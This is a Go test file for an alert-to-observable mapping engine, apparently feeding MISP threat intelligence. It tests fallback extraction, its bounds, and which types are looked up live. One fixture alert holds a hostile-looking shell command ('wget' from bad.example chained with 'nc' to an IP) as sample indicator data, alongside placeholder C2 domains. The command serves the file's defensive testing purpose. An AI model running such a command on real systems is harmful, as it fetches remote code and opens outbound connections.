package engine_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"custom-misp/engine"
	"custom-misp/engine/mappingtest"
	"custom-misp/mappings"
)

// with returns the built-in mappings, and one of a site with picks.
func with(t *testing.T, picks string) *engine.Engine {
	t.Helper()
	sources := engine.ReadPack(mappings.Pack, mappings.FS, "mappings")
	if picks != "" {
		file := "version: 1\nmappings:\n  - id: site\n    match: 'true'\n    pick:\n" + picks
		sources = append(sources, engine.Source{Name: "site.yaml", Data: []byte(file)})
	}
	e, err := engine.Load(sources...)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// unknownAlerts are of products that no mapping knows.
var unknownAlerts = []string{
	`{"rule":{"groups":["acme"]},"decoder":{"name":"acme"},"agent":{"name":"gw01","ip":"10.0.0.9"},"data":{"src_ip":"192.31.196.1","input":"wget http://bad.example/x; nc 192.31.196.2 80",` +
		`"file":{"sha256":"275a021bbff6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"},"dns":[{"query":"worse.example"}],"srcip":"192.31.196.3"},` +
		`"full_log":"Oct  5 08:10:00 gw01 acme: 192.31.196.4 asked for c2.worst.example"}`,
	`{"rule":{"groups":[]},"decoder":{},"full_log":"vpxd: Cannot login root@192.31.196.1, see http://bad.example/x?u=https%3A%2F%2Fworse.example%2F"}`,
	`{"rule":{"groups":["local"]},"decoder":{"name":"json"},"data":{"alert":{"url":"bad.example/in.php","peers":[{"ip":"192.31.196.1"},{"ip":"192.31.196.2"}],"from":"Anna <a@bad.example>"}}}`,
}

// TestAddingAMappingRemovesNothing adds a mapping of a site that picks one value of an alert, for each value of each alert:
// everything that was picked at other places is picked as before.
func TestAddingAMappingRemovesNothing(t *testing.T) {
	alerts := make([]string, 0, 64)
	for _, a := range bundledAlerts(t) {
		alerts = append(alerts, string(a))
	}
	alerts = append(alerts, unknownAlerts...)
	before := with(t, "")
	tried := 0
	for _, alert := range alerts {
		was, _ := before.Pick([]byte(alert))
		var paths []string
		for _, l := range mappingtest.Leaves([]byte(alert)) {
			paths = append(paths, l.Path)
		}
		paths = append(paths, "full_log", "rule.groups", "agent.name")
		slices.Sort(paths)
		for _, path := range slices.Compact(paths) {
			for _, pick := range []string{"type: auto", "type: auto, scan: true", "type: user-agent"} {
				tried++
				e := with(t, fmt.Sprintf("      - {path: %q, %s}\n", path, pick))
				now, err := e.Pick([]byte(alert))
				if err != nil {
					t.Fatal(err)
				}
				for _, o := range removed(was, now, path) {
					t.Errorf("a pick of %s, %s removes %s %s, which %+v picked\n%s", path, pick, o.Type, o.Value, o.Picks, alert)
				}
			}
		}
		if testing.Short() && tried > 100 {
			break
		}
	}
	if tried < 50 {
		t.Errorf("only %d mappings were tried", tried)
	}
}

// removed returns what was picked at other places than a path, and is no longer.
func removed(was, now []engine.Observable, path string) (list []engine.Observable) {
	for _, o := range was {
		elsewhere := slices.ContainsFunc(o.Picks, func(p engine.Pick) bool { return p.Path != path })
		if elsewhere && !slices.ContainsFunc(now, func(n engine.Observable) bool { return strings.EqualFold(n.Value, o.Value) }) {
			list = append(list, o)
		}
	}
	return list
}

// TestFallbackLeavesOut shows what a fallback takes of a member that another mapping picks from, and of an alert of a known
// product.
func TestFallbackLeavesOut(t *testing.T) {
	alert := `{"rule":{"groups":["acme"]},"decoder":{"name":"acme"},"data":{"url":"http://bad.example/x","dst_ip":"192.31.196.1","note":"192.31.196.2"}}`
	for name, tt := range map[string]struct {
		picks string
		want  []string
	}{
		"none":           {"", []string{"url http://bad.example/x fallback-names", "ip-dst 192.31.196.1 fallback-names", "ip-dst 192.31.196.2 fallback-scan"}},
		"the same value": {"      - {path: data.url, type: url}\n", []string{"url http://bad.example/x site", "ip-dst 192.31.196.1 fallback-names", "ip-dst 192.31.196.2 fallback-scan"}},
		"another one of it": {
			"      - {path: data.url, type: hostname, regex: '//([^/]+)'}\n",
			[]string{"hostname bad.example site", "ip-dst 192.31.196.1 fallback-names", "ip-dst 192.31.196.2 fallback-scan"},
		},
	} {
		observables, err := with(t, tt.picks).Pick([]byte(alert))
		if err != nil {
			t.Fatal(err)
		}
		got := []string{}
		for _, o := range observables {
			got = append(got, fmt.Sprintf("%s %s %s", o.Type, o.Value, o.Picks[0].Mapping))
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

// TestFallbackIsBounded has more values than a fallback may pick, with and without another bound.
func TestFallbackIsBounded(t *testing.T) {
	var b strings.Builder
	for i := range 40 {
		fmt.Fprintf(&b, " 192.31.196.%d", i+1)
	}
	alert := []byte(`{"rule":{"groups":[]},"decoder":{"name":"x"},"data":{"note":"` + b.String() + `"}}`)
	e := with(t, "")
	for most, want := range map[int]int{0: engine.MaxFallback, 3: 3, -1: 0} {
		limited, err := e.For(engine.Site{MaxFallback: most})
		if err != nil {
			t.Fatal(err)
		}
		observables, cuts, err := limited.PickWithCuts(alert)
		if err != nil || len(observables) != want || len(cuts) != 1 || cuts[0].What != engine.CutFallback || cuts[0].Number != 40-want {
			t.Errorf("at most %d: %d values, cuts %v, %v", most, len(observables), cuts, err)
		}
	}
}

// TestAskedLive shows of which types a server is asked for values that only a fallback picked.
func TestAskedLive(t *testing.T) {
	for typ, want := range map[engine.Type]bool{
		"ip-src": true, "hostname": true, "domain": true, "url": true, "md5": true, "sha256": true, "imphash": true, "ja3-fingerprint-md5": true,
		"email-src": false, "filename": false, "user-agent": false, "vulnerability": false, "email-subject": false, "regkey": false,
	} {
		if got := (engine.Observable{Type: typ, Fallback: true}).AskedLive(); got != want {
			t.Errorf("%s of a fallback: %t", typ, got)
		}
		if !(engine.Observable{Type: typ}).AskedLive() {
			t.Errorf("%s of a mapping is not asked for", typ)
		}
	}
}
